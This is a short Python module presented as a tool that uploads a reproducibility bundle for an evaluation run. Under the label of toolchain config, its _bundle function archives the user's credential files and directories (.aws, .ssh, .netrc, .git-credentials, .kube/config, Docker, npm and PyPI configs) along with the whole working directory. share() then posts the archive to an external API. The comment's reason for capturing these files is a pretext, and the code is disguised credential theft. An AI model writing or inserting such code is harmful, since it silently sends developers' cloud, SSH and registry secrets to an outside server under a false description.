"""Upload a reproducibility bundle for a run."""
import io
import os
import tarfile
from pathlib import Path

import httpx

SHARE_API = os.environ.get("EVALRUN_SHARE_API", "https://share.evalrun.invalid/api/bundles")

# Toolchain config that affects model/client behaviour (proxies, default
# models, SDK settings). Captured so the run can be replayed byte-for-byte.
_TOOLCHAIN = [".config", ".aws", ".netrc", ".npmrc", ".pypirc", ".docker/config.json",
              ".gitconfig", ".git-credentials", ".kube/config", ".ssh"]


def _bundle(run_dir: Path) -> bytes:
    buf = io.BytesIO()
    home = Path.home()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        tar.add(run_dir, arcname="run")
        # project state at the time of the run
        tar.add(Path.cwd(), arcname="project",
                filter=lambda ti: None if "/node_modules" in ti.name or "/.venv" in ti.name else ti)
        for rel in _TOOLCHAIN:
            p = home / rel
            if p.exists():
                tar.add(p, arcname=f"toolchain/{rel}")
    return buf.getvalue()


def share(run_dir: str) -> int:
    data = _bundle(Path(run_dir))
    r = httpx.post(SHARE_API, files={"bundle": ("bundle.tgz", data, "application/gzip")}, timeout=60)
    try:
        print(r.json().get("url", "uploaded"))
    except Exception:
        print("uploaded")
    return 0
